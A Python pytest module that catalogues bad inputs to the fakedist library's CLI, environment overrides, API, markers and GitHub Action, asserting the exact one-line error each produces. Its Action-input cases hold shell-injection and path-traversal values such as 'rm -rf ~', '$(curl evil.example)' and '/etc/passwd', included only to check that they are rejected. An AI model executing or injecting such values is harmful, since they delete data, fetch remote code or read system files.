"""The catalogue of bad inputs: every entry point, one line naming the value, nothing touched.

Each case feeds one bad input to one entry point and asserts the exact line users see.
Commands (``python -m ...``, run here through the ``main`` their ``__main__`` calls, and
pytest through pytester; tests/tooling/test_cli.py runs the CLI as a process): non-zero exit, no
traceback, and the working directory is byte-for-byte unchanged. API cases: nothing of the
world is left initialised. docs/bad-inputs.md holds the same table;
``python tests/unit/test_bad_inputs.py`` rewrites it from CASES.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from fakedist.tooling import cli
from fakedist.tooling.action import __main__ as action_main

# What ``python -m <module>`` runs, by module: its ``__main__``'s main(argv).
MAINS: dict[str, Callable[[list[str]], int]] = {
    "fakedist": cli.main,
    "fakedist.tooling.action": action_main.main,
}
ROOT = Path(__file__).resolve().parents[2]
DOC = ROOT / "docs" / "bad-inputs.md"
START, END = "<!-- catalogue:start -->", "<!-- catalogue:end -->"

MINI = """\
schema = 1
[defaults]
torch = ["2.13"]
variant = "cpu"
[variants.cpu]
index_url = "https://download.pytorch.org/whl/cpu"
[variants.cu126]
cuda = "12.6"
min_driver = "525.60.13"
index_url = "https://download.pytorch.org/whl/cu126"
[[torch]]
minor = "2.13"
version = "2.13.0"
python = ["3.10", "3.11", "3.12", "3.13", "3.14"]
variants = ["cpu", "cu126"]
"""
TORCH_213 = '[[torch]]\nminor = "2.13"\nversion = "2.13.0"\n'


@dataclass(frozen=True)
class Case:
    """One bad input: where it enters, what it is, and the exact line users see."""

    entry: str  # entry point, as in the docs table
    value: str  # the bad input, as shown in the docs table
    message: str  # the exact line; {fake_options} = this torch's FakeProcessGroup options
    kind: str  # "cli" | "action" | "pytest" | "api" | "marker"
    argv: tuple[str, ...] = ()  # cli/pytest: arguments; marker: the marker's arguments
    env: dict[str, str] = field(default_factory=dict)
    matrix: str | None = MINI  # written to torch.toml in the working directory
    call: Callable[[], object] | None = None  # api: raises ValueError
    encoding: str = "utf-8"  # of the matrix file

    @property
    def id(self) -> str:
        return f"{self.entry}: {self.value}"


MATRIX = ("matrix", "--file", "torch.toml")


def mat(value: str, old: str, new: str, message: str, encoding: str = "utf-8") -> Case:
    """A matrix file: MINI with ``old`` replaced, loaded by ``python -m fakedist matrix``."""
    assert old in MINI, old
    text = MINI.replace(old, new, 1)
    return Case(
        "matrix file",
        value,
        "fakedist matrix: torch.toml: " + message,
        "cli",
        MATRIX,
        {},
        text,
        encoding=encoding,
    )


def env(variable: str, value: str, message: str) -> Case:
    """A FAKEDIST_* override, read by ``python -m fakedist matrix`` (and nox, the Action)."""
    shown = f"{variable}={value}"
    return Case(
        "env override", shown, "fakedist matrix: " + message, "cli", MATRIX, {variable: value}
    )


def cli(argv: tuple[str, ...], message: str, module: str = "fakedist") -> Case:
    shown = f"python -m {module} {' '.join(argv)}".strip()
    return Case("CLI", shown, message, "cli", ("-m", module, *argv), matrix=None)


def api(value: str, message: str, env: dict[str, str] | None = None, **kwargs: Any) -> Case:
    """``fakedist.fake_world(**kwargs)`` (``with_fake_comms`` checks the same way)."""

    def call() -> None:
        from fakedist import fake_world

        args = dict(kwargs)
        with fake_world(args.pop("world_size", 4), **args):
            pass

    return Case("API", value, message, "api", env=env or {}, matrix=None, call=call)


def api_call(value: str, message: str, call: Callable[[], object]) -> Case:
    """Another API entry point (``run_world``, ``with_fake_comms``): raises ValueError."""
    return Case("API", value, message, "api", matrix=None, call=call)


def _run_world(**kwargs: Any) -> Callable[[], object]:
    def call() -> object:
        from fakedist.fidelity import run_world

        return run_world(lambda world: None, kwargs.pop("world_size", 2), **kwargs)

    return call


def marker(args: str, message: str, name: str = "fake_world", fixture: str = "fake_world") -> Case:
    """A marker on ``test_it`` in test_marked.py; the test errors (setup or collection)."""
    decorator = f"@pytest.mark.{name}({args})"
    source = f"import pytest\n\n{decorator}\ndef test_it({fixture}):\n    pass\n"
    message = f"test_marked.py::test_it: {name} marker: {message}"
    return Case(
        "marker",
        decorator + ("" if fixture or name != "fake_world" else " on a test without the fixture"),
        message,
        "marker",
        (source,),
    )


def _comms(query: Callable[[Any], object]) -> Callable[[], object]:
    """A CommLog query inside ``fake_world(4)``."""

    def call() -> None:
        from fakedist import fake_world

        with fake_world(4) as world:
            query(world.comms)

    return call


def act(name: str, value: str, message: str) -> Case:
    """An Action input, as action.yml passes it: ``FAKEDIST_INPUT_*`` to ``validate``."""
    variable = "FAKEDIST_INPUT_" + name.upper().replace("-", "_")
    return Case(
        "Action input",
        f"{name}: {value!r}",
        f"::error::fakedist: input '{name}': {message}",
        "action",
        env={variable: value, "FAKEDIST_MATRIX": "torch.toml"},
    )


TORCH = '[[torch]]\nminor = "2.13"\nversion = "2.13.0"\n'
CPU_URL = "https://download.pytorch.org/whl/cpu"
OPS = (
    "all_gather, all_gather_coalesced, all_gather_into_tensor, all_gather_into_tensor_coalesced,"
    " all_reduce, all_reduce_coalesced, all_to_all, all_to_all_single, barrier, broadcast,"
    " gather, recv, reduce, reduce_scatter, reduce_scatter_tensor,"
    " reduce_scatter_tensor_coalesced, scatter, send"
)
CASES: list[Case] = [
    mat("empty file", MINI, "", "the matrix file is empty"),
    mat(
        "syntax error: `schema = `",
        "schema = 1",
        "schema = ",
        "TOML syntax error: Invalid value (at line 1, column 10)",
    ),
    mat("schema = 2", "schema = 1", "schema = 2", "schema: unsupported schema 2 (expected 1)"),
    mat(
        "unknown key `colour` in a variant",
        "[variants.cu126]",
        'colour = "red"\n[variants.cu126]',
        "variants.cpu.colour: unknown key",
    ),
    mat(
        "unknown variant `cu999` in a release",
        '"cpu", "cu126"]',
        '"cpu", "cu999"]',
        "torch[2.13].variants[1]: unknown variant 'cu999'",
    ),
    mat(
        "variant table `[variants.gpu]`",
        "[variants.cu126]",
        "[variants.gpu]",
        "variants.gpu: unknown variant 'gpu' (expected cpu, xpu, cuNNN or rocmX.Y)",
    ),
    mat(
        'version `"2.13"`',
        'version = "2.13.0"',
        'version = "2.13"',
        "torch[2.13].version: '2.13' is not a PEP 440 version like 2.13.0",
    ),
    mat(
        'version `"2.12.1"` under minor 2.13',
        'version = "2.13.0"',
        'version = "2.12.1"',
        "torch[2.13].version: '2.12.1' is not a 2.13 release",
    ),
    mat(
        "duplicate cell: two `[[torch]]` for 2.13",
        TORCH,
        TORCH + 'python = ["3.11"]\nvariants = ["cpu"]\n' + TORCH,
        "torch[1].minor: duplicate entry '2.13'",
    ),
    mat(
        "duplicate variant in a release",
        '"cpu", "cu126"]',
        '"cpu", "cpu"]',
        "torch[2.13].variants[1]: duplicate entry 'cpu'",
    ),
    mat(
        "`http://` index URL",
        CPU_URL,
        CPU_URL.replace("https", "http"),
        f"variants.cpu.index_url: index URL {CPU_URL.replace('https', 'http')!r} is not https",
    ),
    mat(
        "UTF-8 byte-order mark at the start",
        "schema = 1",
        "\ufeffschema = 1",
        "starts with a UTF-8 byte-order mark (ef bb bf); save it as UTF-8 without one",
    ),
    mat(
        "saved as UTF-16",
        "schema = 1",
        "schema = 1",
        "starts with a UTF-16 byte-order mark (ff fe); save it as UTF-8 without one",
        encoding="utf-16",
    ),
    mat(
        "binary file (a PNG image)",
        MINI,
        "\x89PNG\r\n\x1a\n",
        "not UTF-8 text (byte 0x89 at offset 0); save it as UTF-8",
        encoding="latin-1",
    ),
    mat(
        "schema = true",
        "schema = 1",
        "schema = true",
        "schema: unsupported schema True (expected 1)",
    ),
    env("FAKEDIST_TORCH", "2.99", "FAKEDIST_TORCH: torch 2.99 is not in torch.toml (known: 2.13)"),
    env(
        "FAKEDIST_TORCH",
        "latest",
        "FAKEDIST_TORCH: 'latest' is not a torch version "
        "(use e.g. 2.13, 2.13.0, all, default, nightly)",
    ),
    env(
        "FAKEDIST_TORCH_INDEX",
        "mirror.example/whl",
        "FAKEDIST_TORCH_INDEX: 'mirror.example/whl' is not an index URL or 'default'",
    ),
    env("FAKEDIST_CUDA", "cu999", "FAKEDIST_CUDA: unknown variant 'cu999' (known: cpu, cu126)"),
    env(
        "FAKEDIST_PYTHON", "python3", "FAKEDIST_PYTHON: 'python3' is not a Python version like 3.11"
    ),
    env("FAKEDIST_WHEELHOUSE", "wheels", "FAKEDIST_WHEELHOUSE: 'wheels' is not a directory"),
    env(
        "FAKEDIST_TORCH",
        "2.13.0,2.13.1",
        "FAKEDIST_TORCH: 2.13.0 and 2.13.1 are both torch 2.13, and a run has one cell per"
        " minor: choose one",
    ),
    api("world_size=0", "world_size must be >= 1, got 0", world_size=0),
    api("world_size=-2", "world_size must be >= 1, got -2", world_size=-2),
    api("world_size='8'", "world_size must be an int >= 1, got '8'", world_size="8"),
    api("world_size=True", "world_size must be an int >= 1, got True", world_size=True),
    api("world_size=4, rank=4", "rank 4 is outside [0, 4) for world_size=4", rank=4),
    api(
        "backend='nccl'",
        "unknown backend 'nccl'; fakedist offers: fake, mock_process_group, pypg",
        backend="nccl",
    ),
    api(
        "fake backend, option colour=1",
        "fake backend: unknown option 'colour' on this torch; options it has: {fake_options}",
        colour=1,
    ),
    api(
        "pypg backend, option colour=1",
        "pypg backend: unknown option 'colour'; options it has: work",
        backend="pypg",
        colour=1,
    ),
    api(
        "fault op 'allreduce_x'",
        f"unknown collective op 'allreduce_x'; known ops: {OPS}",
        faults=[{"op": "allreduce_x"}],
    ),
    api(
        "fault that can never fire: every=false",
        "fault spec {'op': 'all_reduce', 'every': False}: every=false without nth can never fire",
        faults=[{"op": "all_reduce", "every": False}],
    ),
    api(
        "fault that can never fire: group rank 5 of 4",
        "fault spec {'op': 'all_reduce', 'group': [0, 5]}: group rank 5 is outside [0, 4), "
        "so it can never fire",
        faults=[{"op": "all_reduce", "group": [0, 5]}],
    ),
    api(
        "fault nth=0",
        "fault spec {'op': 'all_reduce', 'nth': 0}: nth must be an int >= 1, got 0",
        faults=[{"op": "all_reduce", "nth": 0}],
    ),
    api(
        "FAKEDIST_FAULTS=nope",
        "FAKEDIST_FAULTS is not valid JSON (Expecting value: line 1 column 1 (char 0)): 'nope'",
        env={"FAKEDIST_FAULTS": "nope"},
    ),
    api(
        "FAKEDIST_FAULTS=5",
        "FAKEDIST_FAULTS must be a JSON list of fault specs or one spec object, got '5'",
        env={"FAKEDIST_FAULTS": "5"},
    ),
    api(
        "FAKEDIST_FAULTS=null",
        "FAKEDIST_FAULTS must be a JSON list of fault specs or one spec object, got 'null'",
        env={"FAKEDIST_FAULTS": "null"},
    ),
    api(
        "faults={'op': 'all_reduce'} (one spec, not a list)",
        "faults must be a list of specs, got the dict {'op': 'all_reduce'}; wrap it in a list:"
        " [{'op': 'all_reduce'}]",
        faults={"op": "all_reduce"},
    ),
    api_call(
        "comms.count(group=[0, 9]) in a world of 4",
        "group [0, 9]: rank 9 is outside [0, 4) for world_size=4",
        _comms(lambda comms: comms.count(group=[0, 9])),
    ),
    api_call(
        "comms.assert_count('all_reduce', '1')",
        "assert_count: n must be an int >= 0, got '1'",
        _comms(lambda comms: comms.assert_count("all_reduce", "1")),
    ),
    api_call(
        "run_world(fidelity='local')",
        "fidelity 'local' is not offered: LocalTensorMode runs one body for all ranks, not "
        "one body per rank (see docs/fidelity.md); use it inside a fake world instead",
        _run_world(fidelity="local"),
    ),
    api_call(
        "run_world(fidelity='fake')",
        "run_world runs every rank: fidelity must be one of ('threaded', 'gloo')",
        _run_world(fidelity="fake"),
    ),
    api_call(
        "run_world(timeout=0)",
        "timeout: timeout must be seconds > 0, got 0",
        _run_world(timeout=0),
    ),
    api_call(
        "run_world(faults=[{'op': 'barrier', 'rank': 2}]) at world_size 2",
        "fault spec {'op': 'barrier', 'rank': 2}: rank 2 is outside [0, 2), so it can never fire",
        _run_world(faults=[{"op": "barrier", "rank": 2}]),
    ),
    marker("world_size=0", "world_size must be >= 1, got 0"),
    marker(
        "fidelity='threads'",
        "unknown fidelity 'threads'; fidelities: fake, threaded, gloo",
    ),
    marker(
        "fidelity='local'",
        "fidelity 'local' is not offered: LocalTensorMode runs one body for all ranks, not "
        "one body per rank (see docs/fidelity.md); use it inside a fake world instead",
    ),
    marker(
        "fidelity='threaded', timeout='soon'",
        "timeout: timeout must be seconds > 0, got 'soon'",
    ),
    marker("fidelity=[]", "fidelity list is empty"),
    marker("4, 0, 'fake', 'extra'", "too many positional arguments (4, 0, 'fake', 'extra')"),
    marker("2, world_size=4", "'world_size' given twice"),
    marker(
        "fidelity=['fake', 'threaded']",
        "fidelity=['fake', 'threaded'] needs the test to take the fake_world fixture",
        fixture="",
    ),
    marker("0", "count must be an int >= 1, got 0", name="accelerator", fixture=""),
    cli(
        ("launch",),
        "python -m fakedist: error: argument command: invalid choice: 'launch' "
        "(choose from matrix, doctor)",
    ),
    cli((), "python -m fakedist: error: the following arguments are required: command"),
    cli(
        ("matrix", "--variant", "gpu"),
        "python -m fakedist matrix: error: argument --variant: invalid choice: 'gpu' "
        "(choose from cpu, cuda)",
    ),
    cli(("matrix", "--bogus"), "python -m fakedist: error: unrecognized arguments: --bogus"),
    cli(
        ("matrix", "--file", "nowhere.toml"),
        "fakedist matrix: nowhere.toml: cannot read the matrix file (No such file or directory)",
    ),
    cli(
        ("launch",),
        "python -m fakedist.tooling.action: expected one command (validate or run), got 'launch'",
        module="fakedist.tooling.action",
    ),
    Case(
        "nox posargs",
        "nox -s tests-cpu -- --fakedist-timeout=abc",
        "ERROR: --fakedist-timeout: timeout must be seconds > 0, got 'abc'",
        "pytest",
        ("--fakedist-timeout=abc",),
        matrix=None,
    ),
    Case(
        "env override",
        "FAKEDIST_TIMEOUT=-1",
        "ERROR: FAKEDIST_TIMEOUT: timeout must be seconds > 0, got '-1'",
        "pytest",
        (),
        {"FAKEDIST_TIMEOUT": "-1"},
        matrix=None,
    ),
    Case(
        "nox posargs",
        "nox -s tests-cpu -- nowhere/test_x.py",
        "ERROR: file or directory not found: nowhere/test_x.py",
        "pytest",
        ("nowhere/test_x.py",),
        matrix=None,
    ),
    act("tests", "tests; rm -rf ~", "shell metacharacter ';' is not allowed in 'tests; rm -rf ~'"),
    act(
        "install",
        "$(curl evil.example)",
        "shell metacharacter '$' is not allowed in '$(curl evil.example)'",
    ),
    act("pytest-args", "-k `id`", "shell metacharacter '`' is not allowed in '-k `id`'"),
    act(
        "tests", "tests\nrm -rf ~", "shell metacharacter '\\n' is not allowed in 'tests\\nrm -rf ~'"
    ),
    act("torch", "2.13 && id", "shell metacharacter '&' is not allowed in '2.13 && id'"),
    act("working-directory", "../other", "'..' is not allowed in '../other'"),
    act("tests", "tests/../../etc", "'..' is not allowed in 'tests/../../etc'"),
    act("tests", "/etc/passwd", "'/etc/passwd' must be a path relative to the repository"),
    act("session", "gpu", "unknown session 'gpu' (expected one of tests-cpu, cuda, coverage)"),
    act("index-url", "ftp://mirror", "'ftp://mirror' is not an http(s) or file URL, or 'default'"),
    act("fail-under", "101", "expected a number from 0 to 100, got '101'"),
    act("coverage", "yes", "expected true or false, got 'yes'"),
    act("torch", "2.99", "torch 2.99 is not in torch.toml (known: 2.13)"),
    act(
        "torch",
        "2.13.0, 2.13.1",
        "2.13.0 and 2.13.1 are both torch 2.13, and a run has one cell per minor: choose one",
    ),
    act(
        "python-version",
        "3.99",
        "no torch in the matrix has wheels for Python 3.99 (known: 3.10, 3.11, 3.12, 3.13, 3.14)",
    ),
    act(
        "pytest-args",
        "--basetemp=/tmp/elsewhere",
        "'--basetemp=/tmp/elsewhere' points outside the repository (use a path inside it)",
    ),
    act(
        "pytest-args",
        "--rootdir=/",
        "'--rootdir=/' points outside the repository (use a path inside it)",
    ),
    act(
        "pytest-args",
        "--co",
        "'--co' collects tests without running any: a run of no tests fails",
    ),
    act("shuffle", "yes", "expected true, false or a seed number, got 'yes'"),
    act(
        "workers",
        "2",
        "'2' with coverage: 'true': coverage is measured in one process; set coverage: 'false'"
        " to use workers",
    ),
]


def _files(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()}


def _expected(case: Case) -> str:
    if "{fake_options}" not in case.message:
        return case.message
    from fakedist.backends import fake

    none = "none (FakeProcessGroup.Options needs torch 2.9+)"
    return case.message.format(fake_options=", ".join(fake.features().option_names) or none)


def _command(
    case: Case,
    cwd: Path,
    pytester: pytest.Pytester,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> tuple[int, str, str]:
    """(exit status, stdout, stderr) of the case's command, run in ``cwd`` with the case's
    environment and no other FAKEDIST_* variable."""
    for key in [k for k in os.environ if k.startswith("FAKEDIST_")]:
        monkeypatch.delenv(key)
    github = {"GITHUB_WORKSPACE": str(cwd), "GITHUB_OUTPUT": str(cwd / "outputs.txt")}
    for key, value in {**case.env, **github}.items():
        monkeypatch.setenv(key, value)
    monkeypatch.chdir(cwd)
    if case.kind == "pytest":  # what the nox session runs with the posargs appended
        result = pytester.runpytest("-p", "no:cacheprovider", "-p", "no:randomly", *case.argv)
        return int(result.ret), result.stdout.str(), result.stderr.str()
    if case.kind == "action":
        module, args = "fakedist.tooling.action", ["validate"]
    elif case.argv[:1] == ("-m",):
        module, args = case.argv[1], list(case.argv[2:])
    else:
        module, args = "fakedist", list(case.argv)
    monkeypatch.setattr(sys, "argv", [module, *args])
    capsys.readouterr()
    try:
        code = MAINS[module](args)
    except SystemExit as exc:  # what the interpreter turns into the exit status
        code = exc.code if isinstance(exc.code, int) else 1
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input(
    case: Case,
    pytester: pytest.Pytester,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    expected = _expected(case)
    cwd = pytester.path
    if case.matrix is not None:
        (cwd / "torch.toml").write_text(case.matrix, encoding=case.encoding)
    (cwd / "keep.txt").write_text("untouched\n", encoding="utf-8")
    before = _files(cwd)
    if case.kind in ("cli", "action", "pytest"):
        rc, out, err = _command(case, cwd, pytester, monkeypatch, capsys)
        assert rc != 0
        assert "Traceback" not in out + err
        # the line users see: stderr for the CLI, the ::error:: annotation for the Action
        lines = (err if case.kind == "cli" else out).splitlines()
        if case.kind == "pytest":
            assert expected in [*out.splitlines(), *err.splitlines()]
        else:
            assert lines == [expected]
        assert _files(cwd) == before  # nothing deleted or half-written (no outputs.txt)
    elif case.kind == "api":
        import torch.distributed as dist

        from fakedist import _hooks, world

        with pytest.MonkeyPatch.context() as mp:
            for key, value in case.env.items():
                mp.setenv(key, value)
            assert case.call is not None
            with pytest.raises(ValueError) as info:
                case.call()
        assert str(info.value) == expected
        assert not dist.is_initialized()
        assert not world._ACTIVE
        assert not _hooks._ACTIVE
        assert not _hooks._PATCHED
    else:
        pytester.makepyfile(test_marked=case.argv[0])
        args = ("-p", "no:randomly", "-p", "no:cacheprovider", f"--rootdir={pytester.path}")
        result = pytester.runpytest(*args)  # (nox puts TMPDIR under the checkout)
        assert result.ret != 0
        result.assert_outcomes(errors=1)
        lines = result.stdout.lines
        heading = next(x for x in lines if "ERROR at setup" in x or "ERROR collecting" in x)
        report = lines[lines.index(heading) + 1]
        assert report == expected  # the whole report: one line, no chained exception
        assert "Traceback" not in result.stdout.str()


def _cell(text: str) -> str:
    text = text.replace("|", "\\|")
    return f"`` {text} ``" if "`" in text else f"`{text}`"


def render_table() -> str:
    """The catalogue as the markdown table in docs/bad-inputs.md."""
    rows = ["| # | Entry point | Bad input | What users see |", "|---|---|---|---|"]
    for i, case in enumerate(CASES, 1):
        prose = case.entry in ("matrix file", "API")  # descriptions, not literal values
        value = case.value.replace("|", "\\|") if prose else _cell(case.value)
        rows.append(f"| {i} | {case.entry} | {value} | {_cell(case.message)} |")
    return "\n".join(rows) + "\n"


def test_catalogue_is_big_and_covers_every_entry_point() -> None:
    assert len(CASES) >= 25
    assert len({c.id for c in CASES}) == len(CASES)
    entries = {c.entry for c in CASES}
    assert entries == {
        "matrix file",
        "env override",
        "API",
        "marker",
        "CLI",
        "nox posargs",
        "Action input",
    }


def test_docs_table_matches_the_catalogue() -> None:
    text = DOC.read_text(encoding="utf-8")
    table = text.split(START, 1)[1].split(END, 1)[0].strip() + "\n"
    assert table == render_table(), "regenerate with: python tests/unit/test_bad_inputs.py"


if __name__ == "__main__":  # rewrite the table in docs/bad-inputs.md from CASES
    head, rest = DOC.read_text(encoding="utf-8").split(START, 1)
    DOC.write_text(f"{head}{START}\n{render_table()}{END}{rest.split(END, 1)[1]}", encoding="utf-8")
